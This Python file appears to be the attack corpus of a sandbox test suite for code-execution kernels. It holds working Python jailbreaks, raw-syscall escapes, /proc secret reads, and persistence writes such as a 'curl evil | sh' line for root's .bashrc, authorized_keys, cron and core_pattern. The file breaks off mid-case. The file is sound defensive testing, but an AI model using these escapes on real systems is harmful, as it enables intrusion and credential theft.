"""The attack corpus. Each case is a function of t (lib.CaseRun): it starts the kernels it
needs (fresh ones: a case may poison or kill its kernel), runs hostile code in them, and checks
from outside that the attack had no effect. See README.md for the list.

Conventions: attack code uses only the prelude's bypass routes for anything the import policy
may block (never a plain `import os` for a blocked module); every OS-level attempt is wrapped in
_try/_sys_try so that check_reached() can tell "the OS refused" from "the attack never got
there"; markers written by attacks are named scpwn-*; secrets are never embedded in attack code
(except where a victim kernel plants its own).
"""

import os
import re
import socket
import threading
import time

from lib import (CaseSkip, alive, breach, case, error, inconclusive, limits, lo_addresses,
                 mountinfo, net_tables, ns_id, proc_keys, proc_stat, proc_status, read_text,
                 socket_inventory, unix_connected)

SECRET_PATHS = ["/root/scsec-secret.txt", "/tmp/scsec-host-secret.txt"]


_HAS = {}


def ia32_works():
    """Whether `int 0x80` reaches the kernel here (it raises #GP on some hosts even with
    IA32_EMULATION). Tried with a harmless i386 getpid in a throw-away process."""
    import subprocess
    code = ("import ctypes, mmap\n"
            "m = mmap.mmap(-1, 4096, prot=7)\n"
            "m.write(b'\\x53\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\x5b\\xc3')\n"
            "a = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
            "print(ctypes.CFUNCTYPE(ctypes.c_int)(a)())\n")
    r = subprocess.run(["/usr/bin/python3", "-c", code], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=30)
    if r.returncode == 0 and r.stdout.strip().isdigit():
        return True
    return "int 0x80 does not reach this host's kernel (exit %d): the i386 ABI is closed here" % r.returncode


def has(ctx, need):
    """True, or the reason to skip."""
    if need == "ipv6":
        try:
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.bind(("::1", 0))
            s.close()
            return True
        except OSError as e:
            return "no IPv6 loopback (%s)" % e
    if need == "probe":
        return True if os.access(ctx.probe, os.X_OK) else "syscall probe %s not built" % ctx.probe
    if need == "ia32":
        if "ia32" not in _HAS:
            _HAS["ia32"] = ia32_works()
        return _HAS["ia32"]
    if need == "rootdev":
        return True if ctx.root_dev[1] else "cannot read the root block device"
    return True


# =============================================================================================
# helpers
# =============================================================================================

class Sampler:
    """Samples, from outside, the processes/threads/fds/RSS of a kernel while a cell runs."""

    def __init__(self, k, interval=0.1):
        self.k = k
        self.interval = interval
        self.max_procs = 0
        self.max_threads = 0
        self.max_fds = 0
        self.max_rss = 0
        self._stop = threading.Event()
        self._t = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self._stop.is_set():
            try:
                pids = self.k.pids()
                self.max_procs = max(self.max_procs, len(pids))
                rss = 0
                for p in pids:
                    st = proc_status(p) or {}
                    self.max_threads = max(self.max_threads, int(st.get("Threads", "0") or 0))
                    rss += int((st.get("VmRSS", "0 kB").split() or ["0"])[0]) * 1024
                    try:
                        self.max_fds = max(self.max_fds, len(os.listdir("/proc/%d/fd" % p)))
                    except OSError:
                        pass
                self.max_rss = max(self.max_rss, rss)
            except Exception:
                pass
            self._stop.wait(self.interval)

    def __enter__(self):
        self._t.start()
        return self

    def __exit__(self, *a):
        self._stop.set()
        self._t.join(5)


def baseline(k):
    """The kernel's idle footprint, from outside: resident memory of all its processes, its
    processes, and the threads, descriptors and highest descriptor of the interpreter."""
    pids = k.pids()
    kp = k.inner_pid()
    rss = 0
    for p in pids:
        st = proc_status(p) or {}
        rss += int((st.get("VmRSS", "0 kB").split() or ["0"])[0]) * 1024
    st = proc_status(kp) or {}
    fds = [int(x) for x in os.listdir("/proc/%d/fd" % kp)] if kp else []
    return {"rss": rss, "procs": len(pids), "threads": int(st.get("Threads", "0") or 0),
            "fds": len(fds), "maxfd": max(fds) if fds else 0}


def kernel_sockets(k):
    inv = {}
    for p in k.pids():
        inv.update(socket_inventory(p))
    return inv


def unix_peers(pid):
    """{inode: peer inode} of the AF_UNIX sockets of pid's network namespace (ss -x there)."""
    import subprocess
    try:
        r = subprocess.run(["nsenter", "--net=/proc/%d/ns/net" % pid, "ss", "-xaH"],
                           stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=20)
    except (OSError, subprocess.TimeoutExpired):
        return {}
    peers = {}
    for line in r.stdout.decode(errors="replace").splitlines():
        f = line.split()
        # Netid State Recv-Q Send-Q Local-Address Port Peer-Address Port
        if len(f) >= 8 and f[5].isdigit() and f[7].isdigit():
            peers[int(f[5])] = int(f[7])
    return peers


def classify_sockets(k):
    """{inode: (kind, holder pid, description)} of every socket the kernel's processes hold.
    kind: 'endpoint' (an AF_UNIX socket on one of the kernel's own ipc endpoint paths, listening
    or accepted; they are bound before the sandbox, in the host's namespace), 'supervisor'
    (an AF_UNIX channel whose peer the kernel's supervisor holds), 'selfpair' (an AF_UNIX socket
    whose peer the kernel holds too), 'other'."""
    pids = k.pids()
    kp = k.inner_pid()
    me = os.getpid()
    inv = {}
    holder = {}
    for p in pids:
        for ino, tb in socket_inventory(p).items():
            inv[ino] = tb
            holder.setdefault(ino, p)
    own = set(k.endpoints())
    lines = {}
    peers = {}
    for p in ([kp] if kp else []) + [me]:
        for ino, (tb, line) in net_tables(p).items():
            if tb == "unix":
                lines[ino] = line
        peers.update(unix_peers(p))
    sup = set()
    for p in pids:
        if p != kp and ns_id(p, "pid") == ns_id(me, "pid"):
            sup |= __import__("lib").socket_inodes(p)
    out = {}
    for ino, tb in inv.items():
        f = lines.get(ino, "").split()
        path = f[7] if len(f) >= 8 else None
        if tb.endswith("unix") and path in own:
            kind = "endpoint"
        elif tb.endswith("unix") and peers.get(ino) in sup and holder[ino] not in sup:
            kind = "supervisor"
        elif tb.endswith("unix") and peers.get(ino) in inv:
            kind = "selfpair"
        else:
            kind = "other"
        out[ino] = (kind, holder[ino], "%s socket (inode %d%s%s)" % (
            tb, ino, ", path %s" % path if path else "",
            ", peer %s" % peers[ino] if ino in peers else ""))
    return out


def check_no_new_sockets(t, k, before, self_pairs_ok=False):
    """The kernel's processes hold no socket they did not hold before the attack, but for
    connections accepted on the kernel's own ipc endpoints (and, with self_pairs_ok, AF_UNIX
    pairs whose two ends the kernel holds itself: they reach nobody)."""
    new = []
    for ino, (kind, pid, desc) in classify_sockets(k).items():
        if ino in before or kind in ("endpoint", "supervisor"):
            continue
        if self_pairs_ok and kind == "selfpair":
            continue
        new.append(desc)
    if new:
        breach("the kernel created new sockets: %s" % ", ".join(sorted(new)[:8]))


def sleeper_stack(pid):
    """(start, end) of the sleeper's [stack] mapping, from outside."""
    for line in (read_text("/proc/%d/maps" % pid) or "").splitlines():
        if line.endswith("[stack]"):
            a, b = line.split()[0].split("-")
            return int(a, 16), int(b, 16)
    return None


def route_note(t, o, label="route-os"):
    st = o.tries().get(label)
    if st and st[0] in ("EXC", "ERR"):
        t.note("%s blocked before the OS (%s), fell back to the default bypass" % (
            label, st[1][:100]))
    elif st and st[0] == "OK":
        t.note("%s worked" % label)


# The standard payload of the jailbreak cases: with whatever the route produced, read the
# planted host secrets, write markers on the host side, connect to the test's TCP listener.

def payload3(li, m1, m2):
    return """
if isinstance(O, BaseException) or O is None: O = _os()
if isinstance(IO, BaseException) or IO is None: IO = _open
if isinstance(SK, BaseException) or SK is None: SK = _mod('_socket')
_try('read-root-secret', lambda: IO('/root/scsec-secret.txt').read())
_try('read-tmp-secret', lambda: IO('/tmp/scsec-host-secret.txt').read())
_try('list-root', lambda: O.listdir('/root'))
_try('write-marker', lambda: O.write(O.open(%r, O.O_WRONLY | O.O_CREAT, 0o666), b'x'))
_try('write-tmp-marker', lambda: IO(%r, 'w').write('x'))
def _c():
    s = SK.socket(2, 1, 0)
    _KEEP.append(s)
    s.settimeout(2)
    s.connect(%s)
    return 'connected'
_try('connect-tcp', _c)
""" % (m1, m2, li.attack_addr())


def jailbreak(t, route_code, control_ok=True):
    li = t.listener("tcp4")
    m1 = t.marker()
    m2 = t.marker("/tmp")
    k = t.kernel()
    o = t.run(k, route_code + payload3(li, m1, m2), timeout=60)
    t.check_no_secrets(o)
    t.check_markers()
    t.check_no_arrivals(li)
    t.check_reached(o, "read-root-secret", "write-marker", "connect-tcp")
    route_note(t, o)
    t.note_errnos(o, "read-root-secret", "write-marker", "connect-tcp")
    return o


# =============================================================================================
# 1. Classic Python jailbreaks of the import rules, then read / write / connect
# =============================================================================================

@case("jb-subclasses-wrap-close", "jailbreak", control=True)
def _(t):
    """().__class__.__base__.__subclasses__() -> os._wrap_close.__init__.__globals__ (the os
    module's namespace) -> read host secrets, write host markers, connect to a TCP listener."""
    jailbreak(t, """
def _r():
    for c in _subclasses():
        if _cname(c) == '_wrap_close':
            return _NS(_initg(c))
    raise RuntimeError('no _wrap_close')
O = _try('route-os', _r)
IO = None
SK = None
""")


@case("jb-builtins-walk", "jailbreak")
def _(t):
    """__builtins__ walk: ModuleSpec.__init__.__globals__['__builtins__'] (the real builtins,
    whatever the cell's namespace got) -> its __import__('os') and open."""
    jailbreak(t, """
def _rb():
    g = _bootg()
    b = g[_D('builtins')]
    return b if isinstance(b, dict) else vars(b)
RB = _try('route-builtins', _rb)
O = _try('route-os', lambda: RB[_D('import')]('os'))
IO = _try('route-open', lambda: RB['open'])
SK = _try('route-socket', lambda: RB[_D('import')]('_socket'))
""")


@case("jb-frame-walk", "jailbreak")
def _(t):
    """Frame walking: an exception's tb_frame, then f_back up into the kernel's own frames,
    whose f_globals hold the os and sys modules."""
    jailbreak(t, """
def _fw():
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as e:
        f = getattr(getattr(e, _D('traceback')), 'tb_frame')
    seen = 0
    while f is not None:
        g = getattr(f, 'f_globals')
        for v in list(g.values()):
            if type(v).__name__ == 'module' and getattr(v, _D('name'), '') in ('os', 'posix'):
                return v
        for v in list(g.values()):
            if type(v).__name__ == 'module' and getattr(v, _D('name'), '') == 'sys':
                return v.modules['os']
        f = getattr(f, 'f_back')
        seen += 1
    raise RuntimeError('no os in %d frames' % seen)
O = _try('route-os', _fw)
IO = None
SK = None
""")


@case("jb-import-getattr", "jailbreak")
def _(t):
    """__import__ through getattr tricks on the cell's own __builtins__ (the obvious route the
    policy should refuse), then importlib.import_module from sys.modules."""
    jailbreak(t, """
def _gi():
    b = globals()[_D('builtins')]
    f = b[_D('import')] if isinstance(b, dict) else getattr(b, _D('imp' + 'ort'))
    return f('o' + 's')
O = _try('route-os', _gi)
def _il():
    return _sys().modules['importlib'].import_module('_so' + 'cket')
SK = _try('route-socket', _il)
IO = None
""")


@case("jb-sys-modules", "jailbreak")
def _(t):
    """sys.modules grabbing: the real sys from importlib's bootstrap globals, then
    sys.modules['posix'] / ['io'] / ['_socket'] (loaded by BuiltinImporter if absent)."""
    jailbreak(t, """
O = _try('route-os', lambda: _sys().modules['posix'])
IO = _try('route-open', lambda: _sys().modules['io'].open)
SK = _try('route-socket', lambda: _builtin_mod('_socket'))
""")


@case("jb-gc-objects", "jailbreak")
def _(t):
    """gc.get_objects(): gc loaded by BuiltinImporter, then the os module object found among
    all live objects."""
    jailbreak(t, """
def _g():
    gc = _builtin_mod('gc')
    for o in gc.get_objects():
        if type(o).__name__ == 'module' and getattr(o, _D('name'), '') == 'os':
            return o
    raise RuntimeError('no os among gc objects')
O = _try('route-os', _g)
IO = None
SK = None
""")


@case("jb-pickle", "jailbreak", control=True)
def _(t):
    """pickle: _pickle (a builtin module) loads crafted pickles that call posix.system (a
    shell writing a host marker) and io.open on the host secret."""
    m = t.marker()
    li = t.listener("tcp4")
    m1, m2 = t.marker(), t.marker("/tmp")
    k = t.kernel()
    code = """
P = _try('route-pickle', lambda: _mod('_pickle'))
def _load(data):
    try:
        return P.loads(data)
    except Exception:
        _unpolicy()
        return P.loads(data)
_try('pickle-system', lambda: _load(b"cposix\\nsystem\\n(S'echo x > %s'\\ntR."))
F = _try('pickle-open', lambda: _load(b"cio\\nopen\\n(S'/root/scsec-secret.txt'\\ntR."))
_try('read-root-secret', lambda: F.read())
O = _try('route-os', lambda: _load(b"cposix\\nlistdir\\n(S'/root'\\ntR."))
O = None
IO = None
SK = None
""" % m + payload3(li, m1, m2)
    o = t.run(k, code, timeout=60)
    t.check_no_secrets(o)
    t.check_markers()
    t.check_no_arrivals(li)
    t.check_reached(o, "pickle-system", "read-root-secret", "write-marker")
    route_note(t, o, "route-pickle")
    t.note_errnos(o, "pickle-system", "pickle-open", "read-root-secret", "connect-tcp")


@case("jb-marshal-code", "jailbreak")
def _(t):
    """marshal: a code object compiled outside (plain `import os`, invisible to a check of the
    cell's source) loaded with marshal.loads and run with the real builtins."""
    li = t.listener("tcp4")
    m1, m2 = t.marker(), t.marker("/tmp")
    src = ("import os as O, io, _socket as SK\nIO = io.open\n" +
           "_try('route-os', lambda: O.getpid())\n" + payload3(li, m1, m2))
    blob = __import__("marshal").dumps(compile(src, "<scsec>", "exec"))
    k = t.kernel()
    code = """
M = _sys().modules['marshal']
code_obj = M.loads(%r)
G = {_D('builtins'): _sys().modules['builtins'], '_try': _try, '_KEEP': _KEEP, '_os': _os,
     '_open': _open, '_mod': _mod}
def _run():
    try:
        return type(lambda: 0)(code_obj, G)()
    except ImportError:
        _unpolicy()
        return type(lambda: 0)(code_obj, G)()
_try('route-marshal', _run)
""" % blob
    o = t.run(k, code, timeout=60)
    t.check_no_secrets(o)
    t.check_markers()
    t.check_no_arrivals(li)
    t.check_reached(o, "read-root-secret", "write-marker", "connect-tcp")
    route_note(t, o, "route-marshal")


@case("jb-code-object", "jailbreak")
def _(t):
    """type(lambda:0)(code, globals): a function whose code object was rewritten with
    code.replace(co_names=...) so that it calls __import__('os') with the real builtins."""
    jailbreak(t, """
def _tmpl():
    return A(B)
def _co():
    c = getattr(_tmpl, _D('code')).replace(co_names=(_D('import'), 'B'))
    G = {_D('builtins'): _sys().modules['builtins'], 'B': 'os'}
    return type(lambda: 0)(c, G)()
O = _try('route-os', _co)
def _co2():
    c = getattr(_tmpl, _D('code')).replace(co_names=(_D('import'), 'B'))
    G = {_D('builtins'): _sys().modules['builtins'], 'B': '_socket'}
    return type(lambda: 0)(c, G)()
SK = _try('route-socket', _co2)
IO = None
""")


@case("jb-exec-string", "jailbreak")
def _(t):
    """exec of source built at run time from character codes (`import os`, `import _socket`)
    with the real exec and builtins: nothing for a static check to see."""
    jailbreak(t, """
RB = _sys().modules['builtins']
NS = {_D('builtins'): RB}
SRC = ''.join(map(chr, %r))
def _ex():
    try:
        getattr(RB, 'exec')(SRC, NS)
    except ImportError:
        _unpolicy()
        getattr(RB, 'exec')(SRC, NS)
    return NS['O']
O = _try('route-os', _ex)
SK = NS.get('SK')
IO = None
""" % ([ord(c) for c in "import os as O\nimport _socket as SK\n"],))


@case("jb-native-syscalls", "jailbreak", control=True)
def _(t):
    """Native code: _ctypes loaded straight from its .so with _imp.create_dynamic (no import
    system at all), then raw openat/read/connect syscalls through libc's syscall()."""
    li = t.listener("tcp4")
    m1 = t.marker()
    k = t.kernel()
    port = li.addr[1]
    code = """
C = _try('route-ctypes', lambda: _C())
def _read(path):
    C = _C()
    fd, e = C.syscall(257, -100, path, 0)
    if fd < 0:
        raise OSError(e, 'openat ' + _errname(e))
    b = C.buf(4096)
    n, e = C.syscall(0, fd, b, 4096)
    return b.raw[:max(n, 0)]
_try('read-root-secret', lambda: _read('/root/scsec-secret.txt'))
_try('read-tmp-secret', lambda: _read('/tmp/scsec-host-secret.txt'))
_sys_try('write-marker', 257, -100, %r, 0o101, 0o666)
fd, e = _sys_try('socket-inet', 41, 2, 1, 0)
sa = bytes([2, 0, %d, %d, 127, 0, 0, 1]) + bytes(8)
if fd is not None and fd >= 0:
    _sys_try('connect-tcp', 42, fd, sa, 16)
""" % (m1, port >> 8, port & 255)
    o = t.run(k, code, timeout=60)
    t.check_no_secrets(o)
    t.check_markers()
    t.check_no_arrivals(li)
    t.check_reached(o, "read-root-secret", "write-marker", "socket-inet")
    t.note_errnos(o, "route-ctypes", "read-root-secret", "write-marker", "socket-inet")


@case("jb-subinterpreter", "jailbreak")
def _(t):
    """A fresh subinterpreter (_xxsubinterpreters from its .so) has no import policy at all:
    plain `import os, socket` there, then read/write/connect; results come back through a
    workspace file."""
    li = t.listener("tcp4")
    m1 = t.marker()
    k = t.kernel()
    sub = """
import os, socket
r = []
for p in ('/root/scsec-secret.txt', '/tmp/scsec-host-secret.txt'):
    try:
        r.append(open(p).read())
    except Exception as e:
        r.append('ERR %%r' %% (e,))
try:
    open(%r, 'w').write('x'); r.append('wrote')
except Exception as e:
    r.append('ERR %%r' %% (e,))
try:
    s = socket.create_connection(%s, 2); r.append('connected')
except Exception as e:
    r.append('ERR %%r' %% (e,))
open('scsec-sub-result.txt', 'w').write(repr(r))
""" % (m1, li.attack_addr())
    code = """
SI = _try('route-subinterp', lambda: _ext_mod('_xxsubinterpreters'))
def _go():
    i = SI.create()
    SI.run_string(i, %r)
    return _open('scsec-sub-result.txt').read()
_try('subinterp-run', _go)
""" % sub
    o = t.run(k, code, timeout=60)
    t.check_no_secrets(o)
    t.check_markers()
    t.check_no_arrivals(li)
    st = o.tries().get("subinterp-run")
    if st and st[0] == "EXC" and "route-subinterp" in o.tries() and \
            o.tries()["route-subinterp"][0] in ("EXC", "ERR"):
        t.note("subinterpreters not reachable: %s" % o.tries()["route-subinterp"][1][:100])
    else:
        t.check_reached(o, "subinterp-run")


# =============================================================================================
# 2. Reading host files and other processes' /proc
# =============================================================================================

def read_paths_code(paths, label_prefix="read"):
    lines = []
    for i, p in enumerate(paths):
        lines.append("_try('%s-%d', lambda: _open(%r, 'rb').read(65536))" % (label_prefix, i, p))
    return "\n".join(lines) + "\n"


@case("read-etc-shadow", "read", control=True)
def _(t):
    """/etc/shadow (a planted copy holding a secret hash) by open(), io.open and os.open."""
    k = t.kernel()
    o = t.run(k, """
_try('open-builtin', lambda: open('/etc/shadow').read())
_try('open-io', lambda: _open('/etc/shadow').read())
_try('open-os', lambda: _os().read(_os().open('/etc/shadow', 0), 4096))
""")
    t.check_no_secrets(o)
    t.check_reached(o, "open-io", "open-os")
    t.note_errnos(o, "open-io", "open-os")


@case("read-host-secrets", "read")
def _(t):
    """The planted secrets in the host's /root and /tmp, the host's /tmp listing, and the
    ext4 secret in the build tree, by path."""
    k = t.kernel()
    paths = SECRET_PATHS + [os.path.join(t.ctx.ext4_dir, "ext4-secret.txt")]
    o = t.run(k, read_paths_code(paths) + """
_try('list-tmp', lambda: _os().listdir('/tmp'))
_try('list-root', lambda: _os().listdir('/root'))
""")
    t.check_no_secrets(o)
    if any("scsec-host-secret" in x for x in [o.stdout]) and \
            o.tries().get("list-tmp", ("",))[0] == "OK" and \
            "scsec-host-secret.txt" in o.tries()["list-tmp"][1]:
        breach("the kernel lists the host's /tmp (sees scsec-host-secret.txt)")
    t.check_reached(o, "read-0", "read-1", "read-2")
    t.note_errnos(o, "read-0", "read-1", "read-2")


@case("read-connection-files", "read", control=True)
def _(t):
    """The gateway's runtime directory: list it and read every kernel-*.json (another
    kernel's HMAC key is a secret; the kernel's own key is not)."""
    victim = t.kernel()
    key = victim.key()
    if not key:
        error("cannot read the victim's connection file")
    t.case_secrets["victim-hmac-key"] = key
    k = t.kernel()
    rd = t.ctx.server.runtime_dir
    o = t.run(k, """
RD = %r
_try('list-runtime', lambda: _os().listdir(RD))
_try('read-victim', lambda: _open(%r).read())
def _all():
    out = []
    for n in _os().listdir(RD):
        try:
            out.append(_open(RD + '/' + n).read())
        except Exception as e:
            out.append(repr(e))
    return out
_try('read-all', _all)
""" % (rd, victim.conn_file))
    t.check_no_secrets(o)
    t.check_reached(o, "list-runtime", "read-victim")
    t.note_errnos(o, "list-runtime", "read-victim")


@case("read-proc-environ", "read", control=True)
def _(t):
    """/proc/<pid>/environ of the test's sleeper, of the gateway, and of every pid the kernel
    can list."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('sleeper-environ', lambda: _open('/proc/%d/environ', 'rb').read())
_try('gateway-environ', lambda: _open('/proc/%d/environ', 'rb').read())
def _scan():
    hits = []
    for n in O.listdir('/proc'):
        if n.isdigit() and int(n) != O.getpid():
            try:
                d = _open('/proc/%%s/environ' %% n, 'rb').read()
                hits.append((n, [x for x in d.split(b'\\0') if b'SCSEC' in x]))
            except Exception:
                pass
    return hits
_try('scan-environ', _scan)
""" % (t.ctx.sleeper, t.ctx.gw_pid))
    t.check_no_secrets(o)
    t.check_reached(o, "sleeper-environ", "gateway-environ")
    t.note_errnos(o, "sleeper-environ", "gateway-environ")


@case("read-proc-cmdline", "read")
def _(t):
    """/proc/<pid>/cmdline of the gateway (its --token) and the sleeper, and a scan of all."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('gateway-cmdline', lambda: _open('/proc/%d/cmdline', 'rb').read())
_try('sleeper-cmdline', lambda: _open('/proc/%d/cmdline', 'rb').read())
def _scan():
    out = []
    for n in O.listdir('/proc'):
        if n.isdigit():
            try:
                out.append(_open('/proc/%%s/cmdline' %% n, 'rb').read()[:300])
            except Exception:
                pass
    return out
_try('scan-cmdline', _scan, show=20000)
""" % (t.ctx.gw_pid, t.ctx.sleeper))
    t.check_no_secrets(o)
    t.check_reached(o, "gateway-cmdline", "sleeper-cmdline")
    t.note_errnos(o, "gateway-cmdline", "sleeper-cmdline")


@case("read-proc-mem", "read", control=True)
def _(t):
    """/proc/<sleeper>/mem at the sleeper's stack (address given by the test: an attacker who
    knows the layout), where its environment and argv live."""
    pid = t.sleeper()
    rng = sleeper_stack(pid)
    if not rng:
        error("no [stack] in the sleeper's maps")
    a, b = rng
    k = t.kernel()
    o = t.run(k, """
def _mem():
    f = _open('/proc/%d/mem', 'rb', buffering=0)
    f.seek(%d)
    d = f.read(%d)
    return [d[max(0, i - 4):i + 60] for i in range(len(d)) if d.startswith(b'SCSEC', i)]
_try('read-mem', _mem, show=4000)
_try('read-maps', lambda: _open('/proc/%d/maps').read()[:200])
""" % (pid, max(a, b - 256 * 1024), min(b - a, 256 * 1024), pid))
    t.check_no_secrets(o)
    t.check_reached(o, "read-mem")
    t.note_errnos(o, "read-mem", "read-maps")


@case("read-proc1-root", "read")
def _(t):
    """/proc/1/root, /proc/<gateway>/root and /proc/<gateway>/cwd: the host's root through a
    process of the outer namespace."""
    k = t.kernel()
    g = t.ctx.gw_pid
    o = t.run(k, read_paths_code([
        "/proc/1/root/root/scsec-secret.txt", "/proc/1/root/tmp/scsec-host-secret.txt",
        "/proc/%d/root/root/scsec-secret.txt" % g, "/proc/%d/root/tmp/scsec-host-secret.txt" % g,
        "/proc/%d/cwd/../../scsec-host-secret.txt" % g]) + """
_try('list-proc1-root', lambda: _os().listdir('/proc/1/root/root'))
""")
    t.check_no_secrets(o)
    t.check_reached(o, "read-0", "read-2")
    t.note_errnos(o, "read-0", "read-2", "read-4")


@case("read-block-device", "read", needs=("rootdev",))
def _(t):
    """The host's disk: open the root block device and read its superblock."""
    dev, sb = t.ctx.root_dev
    uuid_hex = sb[0x68:0x78].hex()
    k = t.kernel()
    o = t.run(k, """
def _rd(p):
    f = _open(p, 'rb', buffering=0)
    f.seek(1024)
    return f.read(1024).hex()
_try('read-dev', lambda: _rd(%r), show=3000)
_try('read-dev-proc', lambda: _rd('/proc/self/root' + %r), show=3000)
""" % (dev, dev))
    if uuid_hex in o.stdout:
        breach("the kernel read the host's %s superblock" % dev)
    t.check_reached(o, "read-dev")
    t.note_errnos(o, "read-dev")


@case("read-kernel-log", "read")
def _(t):
    """The host's kernel log (/dev/kmsg, syslog(2)), where the test wrote a secret line, and
    /dev/mem and /dev/port."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
def _kmsg():
    fd = O.open('/dev/kmsg', O.O_RDONLY | O.O_NONBLOCK)
    out = []
    for i in range(100000):
        try:
            line = O.read(fd, 8192)
        except BlockingIOError:
            break
        if b'scsec' in line:
            out.append(line)
    return out
_try('read-kmsg', _kmsg, show=3000)
def _syslog():
    C = _C()
    b = C.buf(1 << 20)
    n, e = C.syscall(103, 3, b, 1 << 20)
    if n < 0:
        raise OSError(e, 'syslog: ' + _errname(e))
    d = b.raw[:n]
    return [d[i:i + 80] for i in range(len(d)) if d.startswith(b'scsec', i)]
_try('syslog-read', _syslog, show=3000)
_try('dev-mem', lambda: _open('/dev/mem', 'rb', buffering=0).read(16))
_try('dev-port', lambda: _open('/dev/port', 'rb', buffering=0).read(1))
""")
    t.check_no_secrets(o)
    t.check_reached(o, "read-kmsg", "syslog-read", any_of=True)
    t.note_errnos(o, "read-kmsg", "syslog-read", "dev-mem", "dev-port")


@case("read-gateway-fds", "read")
def _(t):
    """The gateway's open files through /proc/<gateway>/fd/N (its log holds a secret line)."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
G = %d
_try('gateway-fd2', lambda: _open('/proc/%%d/fd/2' %% G, 'rb').read(1 << 20)[-4000:])
def _all():
    out = []
    for n in O.listdir('/proc/%%d/fd' %% G):
        try:
            out.append((n, O.readlink('/proc/%%d/fd/%%s' %% (G, n))))
        except Exception as e:
            out.append((n, repr(e)))
    return out
_try('gateway-fd-list', _all)
""" % t.ctx.gw_pid)
    t.check_no_secrets(o)
    t.check_reached(o, "gateway-fd2")
    t.note_errnos(o, "gateway-fd2", "gateway-fd-list")


@case("env-gateway-environment", "read", control=True)
def _(t):
    """The gateway's environment must not reach user code (it may hold SANDCELL_TOKEN, which the
    gateway's --help recommends over --token, or cloud credentials): the test's gateway runs
    with SCSEC_GW_SECRET set."""
    k = t.kernel()
    o = t.run(k, """
_try('environ', lambda: [kv for kv in _os().environ.items() if 'SCSEC' in kv[0] or 'SANDCELL' in kv[0]])
_try('proc-self-environ', lambda: [x for x in _open('/proc/self/environ', 'rb').read().split(b'\\0') if b'SCSEC' in x])
""")
    if t.ctx.gw_env_secret in o.alltext():
        breach("the gateway's environment (SCSEC_GW_SECRET) is visible to user code")
    t.check_reached(o, "environ")


# =============================================================================================
# 3. Writing outside the workspace
# =============================================================================================

def write_paths_code(paths):
    lines = ["O = _os()"]
    for i, p in enumerate(paths):
        lines.append("_try('open-%d', lambda: _open(%r, 'a').write('import os  # scpwn\\n'))"
                     % (i, p))
        lines.append("_try('os-open-%d', lambda: O.close(O.open(%r, O.O_WRONLY | O.O_CREAT, "
                     "0o666)))" % (i, p))
    return "\n".join(lines) + "\n"


@case("write-site-packages", "write", control=True)
def _(t):
    """A .pth file / sitecustomize in the system's site-packages and stdlib directories (code
    every later Python on the host would run)."""
    base = "scpwn-%s-%s" % (t.case.name, t.profile)
    paths = ["/usr/lib/python3/dist-packages/%s.pth" % base,
             "/usr/local/lib/python3.11/dist-packages/%s.pth" % base,
             "/usr/lib/python3.11/%s_sitecustomize.py" % base]
    for p in paths:
        t.markers.append(p)
    k = t.kernel()
    o = t.run(k, write_paths_code(paths) + """
_try('mkdir', lambda: O.mkdir('/usr/lib/python3/dist-packages/%s-dir'))
""" % base)
    t.markers.append("/usr/lib/python3/dist-packages/%s-dir" % base)
    t.check_markers()
    t.check_reached(o, "open-0", "os-open-0")
    t.note_errnos(o, "open-0", "os-open-0", "open-2")


@case("write-host-dirs", "write", control=True)
def _(t):
    """Markers in the host's /tmp, /var/tmp, /dev/shm, /run, the test's world-writable host
    directory, /root, and the build tree."""
    paths = [t.marker("/tmp"), t.marker("/var/tmp"), t.marker("/dev/shm"), t.marker("/run"),
             t.marker(), t.marker("/root"), t.marker(t.ctx.ext4_dir), t.marker(t.ctx.bdir)]
    k = t.kernel()
    o = t.run(k, write_paths_code(paths))
    t.check_markers()
    t.check_reached(o, "open-0", "os-open-4")
    t.note_errnos(o, "open-0", "os-open-4")


@case("write-etc", "write")
def _(t):
    """/etc: a new file, an append to /etc/passwd, a cron job, ld.so.preload."""
    base = "scpwn-%s-%s" % (t.case.name, t.profile)
    paths = ["/etc/%s" % base, "/etc/passwd", "/etc/cron.d/%s" % base, "/etc/ld.so.preload"]
    t.markers += [paths[0], paths[2]]
    k = t.kernel()
    o = t.run(k, write_paths_code(paths))
    t.check_markers()
    t.check_reached(o, "open-0", "open-1")
    t.note_errnos(o, "open-0", "open-1")


@case("write-root-dotfiles", "write")
def _(t):
    """Appending to root's ~/.bashrc and creating ~/.ssh/authorized_keys on the host."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('bashrc', lambda: _open('/root/.bashrc', 'a').write('curl evil | sh  # scpwn\\n'))
_try('ssh-dir', lambda: O.mkdir('/root/.ssh'))
_try('authorized-keys', lambda: _open('/root/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA scpwn\\n'))
""")
    t.markers.append("/root/.ssh")
    t.check_markers()
    t.check_reached(o, "bashrc")
    t.note_errnos(o, "bashrc", "ssh-dir")


@case("write-connection-file", "write", control=True)
def _(t):
    """Tampering with another kernel's connection file in the gateway's runtime directory
    (truncate, replace, unlink); the victim must keep working."""
    victim = t.kernel()
    path = victim.conn_file
    before = read_text(path)
    k = t.kernel()
    o = t.run(k, """
O = _os()
P = %r
_try('truncate', lambda: _open(P, 'w').write('{}'))
_try('unlink', lambda: O.unlink(P))
_try('replace', lambda: _open(P, 'w').write('{"key": "scpwn"}'))
_try('chmod', lambda: O.chmod(P, 0o777))
""" % path)
    after = read_text(path)
    if after != before:
        breach("the victim's connection file was modified (%s)" % (
            "removed" if after is None else "%d bytes now" % len(after)))
    t.check_kernel_ok(victim, "the victim kernel")
    t.check_reached(o, "truncate", "unlink")
    t.note_errnos(o, "truncate", "unlink")


@case("write-proc-sys", "write")
def _(t):
    """Host-wide sysctls: kernel.core_pattern (a classic container escape), kernel.hostname,
    /proc/sysrq-trigger (with a harmless command)."""
    k = t.kernel()
    o = t.run(k, """
_try('core-pattern', lambda: _open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/scpwn %p'))
_try('hostname', lambda: _open('/proc/sys/kernel/hostname', 'w').write('scpwn'))
